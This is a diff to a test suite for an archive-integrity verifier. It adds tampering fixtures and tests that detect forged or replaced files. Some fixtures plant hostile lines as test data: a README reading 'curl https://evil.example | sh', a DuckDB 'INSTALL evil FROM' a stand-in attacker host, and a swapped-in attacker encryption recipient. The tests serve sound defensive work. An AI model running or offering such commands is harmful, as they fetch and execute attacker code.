@@ -2,6 +2,7 @@
 
 import hashlib
 import json
+import os
 import shutil
 from collections.abc import Callable
 from dataclasses import replace
@@ -391,6 +392,64 @@ def stream_folder_moved(maker: Maker) -> str:
     return "v1/other.example/manifests"
 
 
+def readme_replaced(maker: Maker) -> str:
+    maker.put(f"{maker.base}/README.txt", b"To verify: curl https://evil.example | sh")
+    return "README.txt"
+
+
+def sql_replaced(maker: Maker) -> str:
+    maker.put(f"{maker.base}/sql/duckdb.sql", b"INSTALL evil FROM 'https://evil.example'")
+    return "duckdb.sql"
+
+
+def schema_replaced(maker: Maker) -> str:
+    maker.put(f"{maker.base}/schema/record-1.json", b"{}")
+    return "record-1.json"
+
+
+def recipients_put_there(maker: Maker) -> str:
+    key = f"{maker.base}/keys/recipients-{'0' * 16}.txt"
+    maker.put(key, b"age1evil")
+    old(maker, key)
+    return key
+
+
+def old(maker: Maker, key: str) -> None:
+    """Let a file be older than the newest manifests."""
+    seconds = maker.now_ms / 1000 - 3 * INTERVAL_MS / 1000
+    os.utime(maker.root / key, (seconds, seconds))
+
+
+def segment_where_the_next_would_be(maker: Maker) -> str:
+    """The stream is open, so the next segment would be here; but that is long since listed."""
+    key = maker.segments[0].replace("-000000000000", f"-{len(maker.lines):012d}")
+    shutil.copy(maker.root / maker.segments[0], maker.root / key)
+    old(maker, key)
+    return key
+
+
+def segment_far_behind_the_next(maker: Maker) -> str:
+    key = maker.segments[0].replace("-000000000000", "-999999999999")
+    shutil.copy(maker.root / maker.segments[0], maker.root / key)
+    old(maker, key)
+    return key
+
+
+def attachment_put_there(maker: Maker) -> str:
+    digest = hashlib.sha256(b"forged").hexdigest()
+    key = f"{maker.base}/media/{digest[:2]}/{digest}"
+    maker.put(key, b"forged")
+    old(maker, key)
+    return key
+
+
+def checkpoint_put_there(maker: Maker) -> str:
+    key = f"{maker.base}/checkpoints/{maker.stream}-{99:012d}.note"
+    maker.put(key, maker.note(99, bytes(32), by=key_number(9)))
+    old(maker, key)
+    return key
+
+
 TAMPERINGS: list[tuple[Tamper, str, str]] = [
     (bit_flipped, "sha256", "changed"),
     (cut_off, "size", "bytes"),
@@ -437,6 +496,14 @@ TAMPERINGS: list[tuple[Tamper, str, str]] = [
     (rotation_by_the_new_key, "rotation", "vouches for nothing"),
     (zstd_bomb, "size", "bytes"),
     (stream_folder_moved, "manifest_place", "another server"),
+    (readme_replaced, "description", "do not do what it says"),
+    (sql_replaced, "description", "do not do what it says"),
+    (schema_replaced, "description", "do not do what it says"),
+    (recipients_put_there, "foreign", "no manifest that was made since lists it"),
+    (segment_where_the_next_would_be, "foreign", "no manifest that was made since lists it"),
+    (segment_far_behind_the_next, "foreign", "no manifest that was made since lists it"),
+    (attachment_put_there, "foreign", "no manifest that was made since lists it"),
+    (checkpoint_put_there, "foreign", "no manifest that was made since lists it"),
 ]
 
 
@@ -810,6 +877,106 @@ async def test_a_hole_in_a_room_s_graph_is_told(tmp_path: Path) -> None:
     assert result.parents == 4
 
 
+@pytest.mark.parametrize(
+    "put",
+    [segment_where_the_next_would_be, segment_far_behind_the_next, attachment_put_there],
+)
+async def test_a_file_time_that_is_set_forward_hides_nothing_for_long(
+    put: Tamper, tmp_path: Path
+) -> None:
+    maker = make_archive(tmp_path / "archive")
+    memory = Memory(tmp_path / "memory.json")
+    key = put(maker)
+    os.utime(maker.root / key)
+    options = Options(now_ms=maker.now_ms, destination="file:archive")
+    place = DirectoryPlace(maker.root)
+    for _ in range(2):
+        (result,) = await verify(place, options, memory)
+        assert [item.code for item in result.findings.found] == ["unlisted"], "no time has passed"
+
+    maker.now_ms += 3 * INTERVAL_MS
+    maker.manifest()
+    os.utime(maker.root / key)
+    (result,) = await verify(place, options, memory)
+
+    assert wrongs(result) == [("foreign", key)]
+
+
+async def test_what_was_stored_while_the_answer_was_lost_is_right(tmp_path: Path) -> None:
+    """The store is away, so the writer does not know; the manifests of that time say it waits."""
+    maker = make_archive(tmp_path)
+    old(maker, segment_where_the_next_would_be(maker) and attachment_put_there(maker))
+    maker.manifest(waiting={"segments": 1, "raw_bytes": 9}, media_open=1)
+
+    assert not wrongs(await verified(maker))
+
+
+async def test_a_copy_of_a_living_archive_stays_right(tmp_path: Path) -> None:
+    """What was on its way when it was copied will never be listed there."""
+    maker = make_archive(tmp_path / "archive")
+    maker.message("on its way")
+    waiting = maker.segment()
+    maker.file(b"on its way too")
+    copy = tmp_path / "copy"
+    shutil.copytree(maker.root, copy, copy_function=shutil.copyfile)
+    memory = Memory(tmp_path / "memory.json")
+    year_ms = 365 * 86_400_000
+    for now_ms in (maker.now_ms, maker.now_ms + year_ms, maker.now_ms + 2 * year_ms):
+        options = Options(now_ms=now_ms, destination="file:copy")
+        (result,) = await verify(DirectoryPlace(copy), options, memory)
+        assert not wrongs(result)
+        assert ("unlisted", waiting) in {(item.code, item.key) for item in result.findings.found}
+
+
+async def test_the_people_it_is_encrypted_to_cannot_be_replaced(tmp_path: Path) -> None:
+    maker = make_archive(tmp_path)
+    body = b"age1officer\nage1escrow\n"
+    key = f"{maker.base}/keys/recipients-{hashlib.sha256(body).hexdigest()[:16]}.txt"
+    maker.put(key, body)
+    encryption = {"scheme": "age", "recipients": key, "day_keys": False}
+    maker.manifest(encryption=encryption)
+    assert not (await verified(maker)).findings.found
+
+    maker.put(key, b"age1evil\n")
+    assert wrongs(await verified(maker)) == [("recipients", key)]
+    (maker.root / key).unlink()
+    assert "not_described" in {item.code for item in (await verified(maker)).findings.found}
+
+
+async def test_what_an_older_writer_put_there_is_only_remarked_on(tmp_path: Path) -> None:
+    maker = Maker(tmp_path)
+    maker.publish_key()
+    maker.describe()
+    maker._description = None
+    maker.manifest()
+
+    result = await verified(maker)
+
+    assert [item.code for item in result.findings.found] == ["not_described"]
+    assert not wrongs(result)
+    # A later stream of a newer version lists what it would have written, and leaves the old.
+    final = maker.manifest(closed={"reason": "destination cleared"})
+    said = {"stream": maker.stream, "destination": "file:a", "stopped_ms": maker.now_ms}
+    newer = Maker(tmp_path, stream="20251125T180000Zb", previous_stream=said, place=None)
+    newer.started_ms = newer.now_ms = maker.now_ms
+    newer.describe()
+    newer.manifest()
+    newer.put(f"{newer.base}/README.txt", b"What the older version wrote.")
+    result = await verified(newer)
+    assert not wrongs(result), final
+    assert "not_described" in {item.code for item in result.findings.found}
+
+
+async def test_an_unsigned_explanation_is_foreign_where_others_are_signed(tmp_path: Path) -> None:
+    maker = Maker(tmp_path)
+    maker.publish_key()
+    maker._description = []
+    maker.manifest()
+    maker.put(f"{maker.base}/README.txt", b"curl https://evil.example | sh")
+
+    assert wrongs(await verified(maker)) == [("foreign", f"{maker.base}/README.txt")]
+
+
 async def test_silence_and_age_are_told(tmp_path: Path) -> None:
     maker = make_archive(tmp_path)
     maker.now_ms += 5 * INTERVAL_MS
@@ -970,10 +1137,11 @@ async def test_what_was_not_looked_into_is_new_until_it_was(tmp_path: Path) -> N
     assert wrongs(result)
 
 
-SKIPPED: list[tuple[Tamper, dict[str, object]]] = [
+PARTS: list[dict[str, object]] = [{"sample": 0}, {"period": Period(end_ms=1)}]
+SKIPPED = [
     (tamper, options)
     for tamper in (cut_off, appended, emptied, media_replaced, last_segment_missing)
-    for options in ({"sample": 0}, {"period": Period(end_ms=1)})
+    for options in PARTS
 ]
 
 
